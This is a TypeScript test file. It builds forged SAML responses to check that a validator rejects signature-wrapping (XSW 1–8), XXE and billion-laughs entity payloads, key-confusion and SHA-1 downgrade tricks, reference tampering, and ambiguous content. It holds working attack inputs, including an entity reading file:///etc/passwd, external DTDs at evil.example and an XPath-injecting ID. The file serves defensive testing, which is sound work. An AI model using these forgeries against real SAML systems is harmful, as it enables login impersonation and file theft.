import type { ResponseRule } from '../src/index.ts';
import {
  assertionXml,
  type Identity,
  rawSignature,
  responseXml,
  sign,
  signWithDisguisedSha1,
  signWithPublicKey,
  usual,
} from '@wizard/testing/saml';

/** Whom an attack tries to sign in. */
export const attacker = 'mallory@rehearsal.example';

/** One forged message and what must be said of it. */
export interface Attack {
  readonly name: string;
  readonly xml: string;
  /** Exactly the rules that are not met, in their order. */
  readonly verdict: readonly ResponseRule[];
  /** What the reason must say, where the rule alone does not tell. */
  readonly says?: RegExp;
}

interface Keys {
  /** The identity provider whose certificate is expected. */
  readonly idp: Identity;
  /** Somebody else with a key and a certificate of the same name. */
  readonly mallory: Identity;
}

/** The element of this name with everything in it. */
export function part(xml: string, name: string): string {
  const found = new RegExp(`<${name}[\\s>][\\s\\S]*</${name}>`).exec(xml)?.[0];
  if (found === undefined) throw new Error(`${name} is not in the message`);
  return found;
}

/** Replaces, and fails where there is nothing to replace: an attack that changes nothing proves nothing. */
function replace(xml: string, from: string | RegExp, to: string): string {
  const changed = xml.replace(from, to);
  if (changed === xml) throw new Error(`${String(from)} is not in the message`);
  return changed;
}

const sha1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';
const forged = (id = '_evil') => assertionXml({ assertionId: id, nameId: attacker });
const forgedResponse = () => responseXml({ responseId: '_evil', assertionId: '_evil2', nameId: attacker });

/** Every attack, made of messages that are signed for this run. */
export function attackCorpus(keys: Keys): Attack[] {
  return [
    ...wrappingAttacks(keys),
    ...documentAttacks(keys),
    ...keyAttacks(keys),
    ...referenceAttacks(keys),
    ...contentAttacks(keys),
  ];
}

/** "On Breaking SAML: Be Whoever You Want to Be" (2012), XSW 1 to 8, and variants of them. */
function wrappingAttacks({ idp }: Keys): Attack[] {
  const whole = sign(responseXml(), idp, { part: 'Response' });
  const wholeSignature = part(whole, 'ds:Signature');
  const bareResponse = replace(whole, wholeSignature, '');
  const signed = sign(responseXml(), idp);
  const assertion = part(signed, 'saml:Assertion');
  const signature = part(signed, 'ds:Signature');
  const bareAssertion = replace(assertion, signature, '');
  const beforeStatus = (inserted: string) =>
    replace(forgedResponse(), '<samlp:Status>', `${inserted}<samlp:Status>`);
  const afterIssuer = (inserted: string) => replace(forged(), '</saml:Issuer>', `</saml:Issuer>${inserted}`);
  const inSignature = (inserted: string) =>
    replace(signature, '</ds:Signature>', `${inserted}</ds:Signature>`);
  const wrapped = (inner: string) => `<samlp:Extensions>${inner}</samlp:Extensions>`;

  return [
    {
      name: 'XSW 1: the signed response in an Object of its signature, on a forged one',
      xml: beforeStatus(
        replace(wholeSignature, '</ds:Signature>', `<ds:Object>${bareResponse}</ds:Object></ds:Signature>`),
      ),
      verdict: ['single-assertion'],
      says: /1 response inside/,
    },
    {
      name: 'XSW 2: the signed response beside its signature, in a forged one',
      xml: beforeStatus(bareResponse + wholeSignature),
      verdict: ['single-assertion'],
      says: /1 response inside/,
    },
    {
      name: 'XSW 3: a forged assertion before the signed one',
      xml: responseXml({}, forged() + assertion),
      verdict: ['single-assertion'],
      says: /2 in place/,
    },
    {
      name: 'XSW 3, variant: a forged assertion after the signed one',
      xml: responseXml({}, assertion + forged()),
      verdict: ['single-assertion'],
    },
    {
      name: 'XSW 4: the signed assertion inside of the forged one',
      xml: responseXml({}, replace(forged(), '</saml:Assertion>', `${assertion}</saml:Assertion>`)),
      verdict: ['single-assertion', 'signature-placement'],
      says: /1 in place, 1 elsewhere/,
    },
    {
      name: 'XSW 5: the signature on the forged assertion, the original behind it',
      xml: responseXml({}, afterIssuer(signature) + bareAssertion),
      verdict: ['single-assertion'],
    },
    {
      name: 'XSW 6: the original inside of the signature on the forged assertion',
      xml: responseXml({}, afterIssuer(inSignature(bareAssertion))),
      verdict: ['single-assertion'],
    },
    {
      name: 'XSW 7: the signed assertion in Extensions, the forged one in place',
      xml: responseXml({}, wrapped(assertion) + forged()),
      verdict: ['single-assertion', 'signature-placement'],
    },
    {
      name: 'XSW 7, variant: the signed assertion in place, the forged one in Extensions',
      xml: responseXml({}, wrapped(forged()) + assertion),
      verdict: ['single-assertion'],
      says: /1 in place, 1 elsewhere/,
    },
    {
      name: 'XSW 8: the original in an Object of the signature on the forged assertion',
      xml: responseXml({}, afterIssuer(inSignature(`<ds:Object>${bareAssertion}</ds:Object>`))),
      verdict: ['single-assertion'],
    },
    {
      name: 'the signature of the assertion moved to the response',
      xml: replace(responseXml({ nameId: attacker }), '<samlp:Status>', `${signature}<samlp:Status>`),
      verdict: ['signature'],
      says: /refers to another element/,
    },
    {
      name: 'an encrypted assertion beside the signed one',
      xml: responseXml(
        {},
        `${assertion}<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>`,
      ),
      verdict: ['single-assertion'],
      says: /1 encrypted/,
    },
    {
      name: 'two elements with the same ID',
      xml: responseXml({}, `${assertion}<x ID="_a1"/>`),
      verdict: ['unique-ids'],
      says: /_a1 more than once/,
    },
    {
      name: 'a forged assertion with the ID of the signed one',
      xml: responseXml({}, forged('_a1') + assertion),
      verdict: ['single-assertion', 'unique-ids'],
    },
    {
      name: 'the ID of the signed assertion once more, as xml:id',
      xml: responseXml({}, `${assertion}<x xml:id="_a1"/>`),
      verdict: ['unique-ids'],
    },
  ];
}

/** What must be refused before anything is parsed. */
function documentAttacks({ idp }: Keys): Attack[] {
  const signed = sign(responseXml(), idp);
  const bomb = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('');
  const refusal = { verdict: ['readable'], says: /document type declaration/ } as const;

  return [
    { name: 'a bare DOCTYPE', xml: `<!DOCTYPE Response>${signed}`, ...refusal },
    {
      name: 'XXE: an external entity as the name',
      xml: `<!DOCTYPE x [<!ENTITY name SYSTEM "file:///etc/passwd">]>${replace(signed, usual.nameId, '&name;')}`,
      ...refusal,
    },
    {
      name: 'XXE: an external document type',
      xml: `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">${signed}`,
      ...refusal,
    },
    {
      name: 'XXE: a parameter entity',
      xml: `<!DOCTYPE x [<!ENTITY % all SYSTEM "https://evil.example/x.dtd">%all;]>${signed}`,
      ...refusal,
    },
    {
      name: 'entity expansion (a billion laughs)',
      xml: `<!DOCTYPE x [<!ENTITY l0 "ha">${bomb}]>${replace(signed, usual.nameId, '&l9;')}`,
      ...refusal,
    },
    {
      name: 'entity expansion by one long entity',
      xml: `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(50_000)}">]>${replace(signed, usual.nameId, '&a;'.repeat(1_000))}`,
      ...refusal,
    },
    {
      name: 'a DOCTYPE in small letters behind a comment',
      xml: `<!-- --><!doctype x>${signed}`,
      ...refusal,
    },
    {
      name: 'an entity that is declared nowhere',
      xml: replace(signed, usual.nameId, '&name;'),
      verdict: ['readable'],
    },
    {
      name: 'ten thousand elements',
      xml: replace(signed, '</samlp:Response>', `${'<x/>'.repeat(10_000)}</samlp:Response>`),
      verdict: ['readable'],
      says: /more than \d+ elements/,
    },
    {
      name: 'elements that are nested a hundred deep',
      xml: replace(signed, '<samlp:Status>', `${'<x>'.repeat(100)}${'</x>'.repeat(100)}<samlp:Status>`),
      verdict: ['readable'],
      says: /deep/,
    },
  ];
}

/** Signatures by nobody, by somebody else, or by means that prove nothing. */
function keyAttacks({ idp, mallory }: Keys): Attack[] {
  const signed = sign(responseXml(), idp);
  const evil = responseXml({ nameId: attacker });
  const decoy = `<ds:SignatureMethod Algorithm="${sha1}"/>`;

  return [
    { name: 'no signature', xml: evil, verdict: ['signature-placement'], says: /no signature/ },
    {
      name: 'the signature taken away',
      xml: replace(signed, part(signed, 'ds:Signature'), ''),
      verdict: ['signature-placement'],
    },
    {
      name: "signed by somebody else, whose certificate is in the message's KeyInfo",
      xml: sign(evil, mallory),
      verdict: ['signature'],
      says: /invalid; the message says that it was signed by [0-9a-f]{64}/,
    },
    {
      name: "signed by somebody else, with the expected certificate in the message's KeyInfo",
      xml: replace(sign(evil, mallory), mallory.certificateBase64, idp.certificateBase64),
      verdict: ['signature'],
    },
    {
      name: 'the response signed by somebody else, around an assertion that is signed as expected',
      xml: sign(signed, mallory, { part: 'Response' }),
      verdict: ['signature'],
      says: /response: invalid.*assertion: signed by/,
    },
    {
      name: 'HMAC, keyed with the public certificate',
      xml: signWithPublicKey(evil, idp),
      verdict: ['signature-algorithm', 'signature'],
      says: /hmac-sha1/,
    },
    {
      name: 'HMAC that calls itself RSA',
      xml: replace(
        signWithPublicKey(evil, idp),
        '2000/09/xmldsig#hmac-sha1',
        '2001/04/xmldsig-more#rsa-sha256',
      ),
      verdict: ['signature'],
    },
    {
      name: 'signed with SHA-1',
      xml: sign(responseXml(), idp, { signatureAlgorithm: sha1 }),
      verdict: ['signature-algorithm', 'signature'],
      says: /rsa-sha1/,
    },
    {
      name: 'a digest with SHA-1',
      xml: sign(responseXml(), idp, { digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
      verdict: ['signature-algorithm', 'signature'],
      says: /xmldsig#sha1/,
    },
    {
      name: 'SHA-1 behind a decoy that names it inside of SignedInfo',
      xml: replace(
        replace(sign(evil, idp, { signatureAlgorithm: sha1 }), '#rsa-sha1"', '#rsa-sha256"'),
        '<ds:SignedInfo>',
        `<ds:SignedInfo>${decoy}`,
      ),
      verdict: ['signature-algorithm', 'signature'],
    },
    {
      name: 'SHA-1 that is named outside of what is signed',
      xml: replace(signWithDisguisedSha1(evil, idp), '<ds:SignedInfo>', `<x>${decoy}</x><ds:SignedInfo>`),
      verdict: ['signature'],
      says: /assertion: invalid/,
    },
    {
      name: 'a valid raw signature over something that is not the assertion',
      xml: replace(signed, /<ds:SignatureValue>[^<]*/, `<ds:SignatureValue>${rawSignature('hello', idp)}`),
      verdict: ['signature'],
    },
  ];
}

/** What XML Signature allows beyond one plain enveloped signature. */
function referenceAttacks({ idp }: Keys): Attack[] {
  const signed = sign(responseXml(), idp);
  const signature = part(signed, 'ds:Signature');
  const info = part(signed, 'ds:SignedInfo');
  const reference = part(signed, 'ds:Reference');
  const evilInfo = replace(info, /<ds:DigestValue>[^<]*/, '<ds:DigestValue>AAAA');
  const method = '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#';
  const withId = (id: string) => replace(signed.replaceAll('"_a1"', `"${id}"`), '#_a1', `#${id}`);
  const refused = (name: string, xml: string, says: RegExp): Attack => ({
    name,
    xml,
    verdict: ['signature'],
    says,
  });

  return [
    refused(
      'an empty reference, to the whole document',
      replace(signed, 'URI="#_a1"', 'URI=""'),
      /another element/,
    ),
    refused('a reference to another element', replace(signed, 'URI="#_a1"', 'URI="#_r1"'), /another element/),
    refused(
      'a reference outwards',
      replace(signed, 'URI="#_a1"', 'URI="https://evil.example/"'),
      /another element/,
    ),
    refused(
      'a reference by XPointer',
      replace(signed, 'URI="#_a1"', 'URI="#xpointer(/)"'),
      /another element/,
    ),
    refused(
      'a false SignedInfo before the true one',
      replace(signed, info, evilInfo + info),
      /exactly one SignedInfo/,
    ),
    refused(
      'a false SignedInfo after the true one',
      replace(signed, info, info + evilInfo),
      /exactly one SignedInfo/,
    ),
    refused(
      'a second signature on the element',
      replace(signed, signature, signature + signature),
      /several signatures/,
    ),
    refused('a second reference', replace(signed, reference, reference + reference), /exactly one Reference/),
    refused(
      'an Object in the signature',
      replace(signed, '</ds:Signature>', '<ds:Object>anything</ds:Object></ds:Signature>'),
      /carries an Object/,
    ),
    refused('an empty ID', withId(''), /usable ID/),
    refused('an ID with a space', withId('a b'), /usable ID/),
    refused('an ID that breaks out of XPath', withId("x' or '1'='1"), /usable ID/),
    refused(
      'a canonicalization that keeps comments',
      replace(signed, method, `${method}WithComments`),
      /its canonicalization is/,
    ),
    refused(
      'a transform that keeps comments',
      sign(responseXml(), idp, {
        transforms: [
          'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
          'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
        ],
      }),
      /its transforms are/,
    ),
    refused(
      'a transform that picks by XSLT',
      replace(
        signed,
        '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"',
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"',
      ),
      /its transforms are/,
    ),
    refused(
      'a comment that hides the digest',
      replace(replace(signed, usual.nameId, attacker), '<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'),
      /assertion: invalid/,
    ),
    refused('content that was changed after signing', replace(signed, usual.nameId, attacker), /invalid/),
  ];
}

/** Content that two readers may understand in two ways, or that is meant for somebody else; properly signed. */
function contentAttacks({ idp }: Keys): Attack[] {
  const xml = responseXml();
  const confirmation = part(xml, 'saml:SubjectConfirmation');
  const nameId = part(xml, 'saml:NameID');
  const evilName = `${attacker}.evil.example`;
  const signedName = sign(responseXml({ nameId: evilName }), idp);
  const hidden = '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/>';
  const other = 'https://evil.example/login/saml';

  return [
    {
      name: 'a processing instruction inside of the name',
      xml: replace(signedName, evilName, `${attacker}<?x?>.evil.example`),
      verdict: ['signature', 'name-id'],
    },
    {
      name: 'an element inside of the name, signed so',
      xml: sign(responseXml({ nameId: `${attacker}<x/>.evil.example` }), idp),
      verdict: ['name-id'],
      says: /\(absent\)/,
    },
    {
      name: 'two NameIDs in one subject',
      xml: sign(replace(xml, nameId, nameId + nameId), idp),
      verdict: ['name-id'],
    },
    {
      name: 'two bearer confirmations, one of them for somebody else',
      xml: sign(
        replace(xml, confirmation, confirmation + replace(confirmation, 'https://us-api', 'https://evil')),
        idp,
      ),
      verdict: ['recipient', 'confirmation-time', 'in-response-to'],
      says: /no bearer confirmation/,
    },
    {
      name: 'a success that holds a failure',
      xml: sign(
        responseXml({
          status: `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success">${hidden}</samlp:StatusCode>`,
        }),
        idp,
      ),
      verdict: ['status'],
      says: /AuthnFailed/,
    },
    {
      name: 'a failure with a valid assertion',
      xml: sign(
        responseXml({ status: '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>' }),
        idp,
      ),
      verdict: ['status'],
      says: /Responder/,
    },
    { name: 'no status', xml: sign(responseXml({ status: '' }), idp), verdict: ['status'] },
    {
      name: 'another issuer',
      xml: sign(responseXml({ issuer: other, responseIssuer: other }), idp),
      verdict: ['issuer'],
    },
    {
      name: 'another issuer in the unsigned response alone',
      xml: sign(responseXml({ responseIssuer: other }), idp),
      verdict: ['issuer'],
    },
    { name: 'another recipient', xml: sign(responseXml({ recipient: other }), idp), verdict: ['recipient'] },
    {
      name: 'another destination',
      xml: sign(responseXml({ destination: other }), idp),
      verdict: ['destination'],
    },
    { name: 'another audience', xml: sign(responseXml({ audience: other }), idp), verdict: ['audience'] },
    {
      name: 'a period that is over',
      xml: sign(
        responseXml({ notOnOrAfter: '2026-11-24T09:59:30Z', confirmationEnd: '2026-11-24T09:59:30Z' }),
        idp,
      ),
      verdict: ['confirmation-time', 'conditions-time'],
    },
    {
      name: 'a request in the unsigned response that the assertion does not name',
      xml: replace(sign(responseXml(), idp), 'InResponseTo="_q1"', 'InResponseTo="_evil"'),
      verdict: ['in-response-to'],
      says: /_evil in the response, _q1 in the assertion/,
    },
  ];
}
